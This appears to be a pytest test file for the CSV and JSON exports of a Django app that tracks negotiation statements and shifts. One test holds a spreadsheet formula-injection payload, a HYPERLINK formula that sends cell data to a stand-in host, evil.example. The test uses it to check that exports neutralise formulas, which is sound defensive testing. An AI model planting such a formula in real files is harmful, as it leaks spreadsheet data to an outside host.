import csv
import io
import json
from datetime import date

import pytest
from django.core.management import call_command

from negotiations.exports import STATEMENT_FIELDS
from negotiations.models import Shift, Statement
from tests.conftest import make_article, make_statement


@pytest.fixture
def demo(db):
    call_command("seed_demo", stdout=io.StringIO())


def download(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming  # rows are written as they are read, never all held at once
    return b"".join(response.streaming_content).decode("utf-8")


def test_it_exports_confirmed_statements_as_csv_with_documented_columns(client, analyst, demo):
    client.force_login(analyst)

    rows = list(csv.DictReader(io.StringIO(download(client, "/exports/statements.csv"))))

    assert list(rows[0]) == list(STATEMENT_FIELDS)
    assert len(rows) == Statement.objects.filter(review_state="confirmed").count()
    example = next(
        r
        for r in rows
        if r["party"] == "russia" and r["issue"] == "kyiv_government" and r["value"] == "1"
    )
    assert example["stance"] == "Negotiate with it"
    assert example["attribution"] == "reported" and example["reported_by"] == "us"
    assert example["speaker"] == "jd-vance" and example["stated_on"] == "2025-08-24"
    assert example["source"] == "Dépêches Stance (démo)" and example["source_reliability"] == "B"
    assert [r["stated_on"] for r in rows] == sorted(r["stated_on"] for r in rows)


def test_it_applies_the_dashboards_filters(client, analyst, demo):
    client.force_login(analyst)
    url = "/exports/statements.csv?party=russia&issue=ceasefire&since=2025-03-01&until=2025-06-30"

    rows = list(csv.DictReader(io.StringIO(download(client, url))))

    assert rows and {(r["party"], r["issue"]) for r in rows} == {("russia", "ceasefire")}
    assert all("2025-03-01" <= r["stated_on"] <= "2025-06-30" for r in rows)
    assert (
        len(rows)
        == Statement.objects.filter(
            party__slug="russia",
            issue__slug="ceasefire",
            review_state="confirmed",
            stated_on__range=(date(2025, 3, 1), date(2025, 6, 30)),
        ).count()
    )


def test_it_keeps_spreadsheets_from_running_cells_as_formulas(client, analyst, parties, issues):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_statement(
        parties["us"],
        issues["sanctions"],
        2,
        date(2025, 8, 6),
        article=make_article(f"{hostile} and more.", title="@SUM(A1:A9)"),
        quote=hostile,
    )
    client.force_login(analyst)

    [row] = list(csv.DictReader(io.StringIO(download(client, "/exports/statements.csv"))))

    assert row["quote"] == "'" + hostile
    assert row["article_title"] == "'@SUM(A1:A9)"
    assert row["value"] == "2"  # numbers stay numbers


def test_it_offers_utf8_with_a_bom_for_spreadsheets(client, analyst, demo):
    client.force_login(analyst)
    assert download(client, "/exports/statements.csv?bom=on").startswith("\ufeffstatement_id,")
    assert download(client, "/exports/statements.csv").startswith("statement_id,")


def test_it_exports_json_statements_and_shifts(client, analyst, demo):
    client.force_login(analyst)

    statements = json.loads(download(client, "/exports/statements.json?party=eu"))
    shifts = json.loads(download(client, "/exports/shifts.json?kind=concession&party=russia"))
    shifts_csv = list(csv.DictReader(io.StringIO(download(client, "/exports/shifts.csv"))))

    assert statements and {s["party"] for s in statements} == {"eu"}
    assert len(statements) == Statement.objects.filter(party__slug="eu").count()
    assert len(shifts) == Shift.objects.filter(kind="concession", party__slug="russia").count()
    example = next(s for s in shifts if s["issue"] == "kyiv_government")
    assert (example["from_low"], example["to_low"], example["size"]) == (-2, 1, 3)
    assert example["from_stance"] == "Replace the government"
    assert example["to_stance"] == "Negotiate with it"
    assert isinstance(example["statement_ids"], list) and example["statement_ids"]
    assert len(shifts_csv) == Shift.objects.count()
    assert {"toward Ukraine's position", "toward Russia's position"} <= {
        r["label"] for r in shifts_csv
    }


def test_it_refuses_exports_without_the_right(client, db, django_user_model):
    assert client.get("/exports/statements.csv").status_code == 302
    client.force_login(django_user_model.objects.create_user("nobody", password="x-y-z-123"))
    assert client.get("/exports/statements.csv").status_code == 403
    assert client.get("/summary.pdf").status_code == 403


def test_it_answers_404_for_unknown_exports(client, analyst):
    client.force_login(analyst)
    assert client.get("/exports/users.csv").status_code == 404
    assert client.get("/exports/statements.xlsx").status_code == 404
